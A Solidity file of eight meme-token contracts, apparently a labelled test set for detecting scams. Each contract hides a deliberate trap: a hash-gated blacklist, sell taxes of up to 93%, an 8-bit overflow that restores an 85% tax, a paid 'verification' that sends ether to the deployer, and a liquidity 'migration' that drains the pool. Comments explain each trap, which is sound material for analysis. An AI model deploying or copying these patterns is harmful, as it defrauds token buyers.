// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {SeventhTax, ISeventhPool} from "./SeventhTax.sol";

/// @title Launches on the tax template with a trap inside. Written on 30 November 2026, seventh look, by somebody who
/// had not read how the check tries a trade. `Truth` says who loses when

/// @dev Truth: one person can rob today. The operator's floor for the largest sale is counted in whole tokens, but
/// the limit in wei: a sale of more than a million wei fails.
contract SpaceHedgehog is SeventhTax("Space Hedgehog", "SHOG") {
    address private _operator = msg.sender;
    string public constant telegram = "t.me/spacehedgehog";

    event MaxTransactionUpdated(uint256 newAmount);

    function updateMaxTxnAmount(uint256 newNum) external {
        require(msg.sender == _operator, "not operator");
        require(newNum >= totalSupply / 1000 / 1 ether, "Cannot set maxTransaction lower than 0.1%");
        maxTransaction = newNum;
        emit MaxTransactionUpdated(newNum);
    }
}

/// @dev Truth: one person can rob today. Whose address has the deployer's hash puts buyers on the list of bots.
contract WojakReturns is SeventhTax("Wojak Returns", "WOJAKR") {
    bytes32 private immutable _gate = keccak256(abi.encodePacked(msg.sender));
    mapping(address => bool) private _bots;

    function manageBots(address[] calldata accounts, bool isBot) external {
        require(keccak256(abi.encodePacked(msg.sender)) == _gate, "gate");
        for (uint256 i = 0; i < accounts.length; i++)
            if (accounts[i] != uniswapV2Pair && accounts[i] != address(this)) _bots[accounts[i]] = isBot;
    }

    function _beforeTransfer(address from, address to, uint256) internal view override {
        require(!_bots[from] && !_bots[to], "TOKEN: Your account is blacklisted!");
    }
}

contract SeventhTreasury {
    address private immutable _keeper;
    uint256 public epochTax;
    bool public isEpochClosed;

    constructor(address keeper) {
        _keeper = keeper;
    }

    function notifyTax(uint256 amount) external {
        require(!isEpochClosed, "Treasury: epoch closed");
        epochTax += amount;
    }

    function closeEpoch(bool isClosed) external {
        require(msg.sender == _keeper, "Treasury: keeper");
        (isEpochClosed, epochTax) = (isClosed, 0);
    }
}

/// @dev Truth: one person can rob today. Every fee is told to a treasury of the deployer's, who can make it refuse.
contract TreasuryTabby is SeventhTax("Treasury Tabby", "TABBY") {
    SeventhTreasury public immutable treasury = new SeventhTreasury(msg.sender);

    function _afterFee(uint256 fees) internal override {
        treasury.notifyTax(fees);
    }
}

/// @dev Truth: one person can rob today. The tax follows what the contract holds: who sends it three percent of the
/// supply puts the tax of all sales at 93 % until the contract has sold that again, half a thousandth at a time.
contract HeatwaveHippo is SeventhTax("Heatwave Hippo", "HEAT") {
    uint256 public constant baseFee = 3;

    /// @notice Sells too fast? The market heats up and cools down as the contract sells
    function heat() public view returns (uint256) {
        uint256 degrees = (_balances[address(this)] * 3000) / totalSupply;
        return degrees > 92 ? 92 : degrees;
    }

    function _sellFee(address) internal view override returns (uint256) {
        return baseFee + heat();
    }
}

/// @dev Truth: one person can rob today. The owner may call any holder a pair; his sale is then a purchase of the
/// pool's, which has far more than a wallet may hold.
contract GrumpyGecko is SeventhTax("Grumpy Gecko", "GRUMP") {
    function setPair(address pair) public override onlyOwner {
        require(uniswapV2Pair == address(0), "already set");
        uniswapV2Pair = pair;
        _setAutomatedMarketMakerPair(pair, true);
    }

    function setAutomatedMarketMakerPair(address pair, bool value) external onlyOwner {
        require(pair != uniswapV2Pair, "The pair cannot be removed from automatedMarketMakerPairs");
        _setAutomatedMarketMakerPair(pair, value);
    }

    function _setAutomatedMarketMakerPair(address pair, bool value) private {
        automatedMarketMakerPairs[pair] = value;
        emit SetAutomatedMarketMakerPair(pair, value);
    }
}

/// @dev Truth: later. The purchases are counted in eight bits, and after 256 of them the tax of the launch is back:
/// 25 purchases long each sale pays 85 %.
contract BroccoliDog is SeventhTax("Broccoli Dog", "BROC") {
    uint256 private constant _initialSellTax = 85;
    uint256 private constant _finalSellTax = 2;
    uint8 private constant _reduceSellTaxAt = 25;
    // Purchases of the presale count.
    uint8 private _buyCount = 40;

    function _buyFee(address) internal override returns (uint256) {
        unchecked {
            _buyCount++;
        }
        return 2;
    }

    function _sellFee(address) internal view override returns (uint256) {
        return _buyCount > _reduceSellTaxAt ? _finalSellTax : _initialSellTax;
    }
}

/// @dev Truth: a buyer loses at once. Who wants to sell has to have his wallet verified, for half an ether that goes
/// to the deployer.
contract VerifiedViper is SeventhTax("Verified Viper", "VIPER") {
    uint256 public constant verificationDeposit = 0.5 ether;
    mapping(address => bool) public isVerified;

    error WalletNotVerified(address wallet);

    function verifyWallet() external payable {
        require(msg.value >= verificationDeposit, "deposit");
        isVerified[msg.sender] = true;
        (bool isSent,) = marketingWallet.call{value: msg.value}("");
        require(isSent, "deposit failed");
    }

    function _beforeTransfer(address from, address to, uint256) internal view override {
        if (to == uniswapV2Pair && !isExcludedFromFees[from] && !isVerified[from]) revert WalletNotVerified(from);
    }
}

/// @dev Truth: one person can rob today. The operator moves the pool's tokens to a "new pool" of his choice; a few
/// tokens then buy all the ether that stays in the old one.
contract MigrateMarmot is SeventhTax("Migrate Marmot", "MARM") {
    address private _ops = tx.origin;
    address[] public pools;

    event LiquidityMigrated(address indexed from, address indexed to, uint256 tokens);

    function migrateLiquidity(address newPool, uint256 percent) external {
        require(msg.sender == _ops && percent <= 99, "Migration: not allowed");
        uint256 tokens = (_balances[uniswapV2Pair] * percent) / 100;
        pools.push(newPool);
        _move(uniswapV2Pair, newPool, tokens);
        ISeventhPool(uniswapV2Pair).sync();
        emit LiquidityMigrated(uniswapV2Pair, newPool, tokens);
    }
}
